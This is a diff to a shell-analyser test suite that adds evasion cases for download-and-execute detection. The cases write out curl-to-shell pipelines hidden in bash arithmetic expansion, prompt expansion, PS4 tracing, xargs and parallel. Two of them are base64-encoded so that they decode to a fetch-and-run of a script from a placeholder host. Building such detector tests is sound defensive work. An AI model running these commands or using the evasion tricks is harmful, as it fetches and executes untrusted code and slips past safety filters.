@@ -315,6 +315,36 @@ CASES: list[Evasion] = [
     ),
     *group(
         "download_exec",
+        _V,
+        "dl-reexpanded-value",
+        "a download run where bash expands text again, or where xargs/parallel make a script",
+        [
+            f"x='a[$({_CURL} | sh)]'; echo $((x))",
+            f"x='$({_CURL} | bash)'; echo \"${{x@P}}\"",
+            f"PS4='$({_CURL} | sh)'; set -x; :",
+            f"x=$({_CURL}); echo $((x))",
+            f"parallel ::: '{_CURL} | sh'",
+            f"echo \"'{_CURL} | sh'\" | xargs sh -c",
+        ],
+    ),
+    *group(
+        "download_exec",
+        _O,
+        "dl-reexpanded-decoded",
+        "decoded or unknown text bash expands again (arithmetic, prompt expansion)",
+        [
+            "x=$(echo "
+            "YVskKGN1cmwgLWZzU0wgaHR0cHM6Ly94LmV4YW1wbGUvaS5zaCB8IHNoKV0= | base64 -d); "
+            "echo $((x))",
+            "p=$(echo "
+            "JChjdXJsIC1mc1NMIGh0dHBzOi8veC5leGFtcGxlL2kuc2ggfCBzaCk= | base64 -d); "
+            'echo "${p@P}"',
+            'echo "${PROMPT_TEXT@P}"',
+        ],
+        unseen=("arithmetic", "prompt expansion"),
+    ),
+    *group(
+        "download_exec",
         _O,
         "dl-nesting",
         "the download-and-run pipeline sits past the analyser's depth limit",
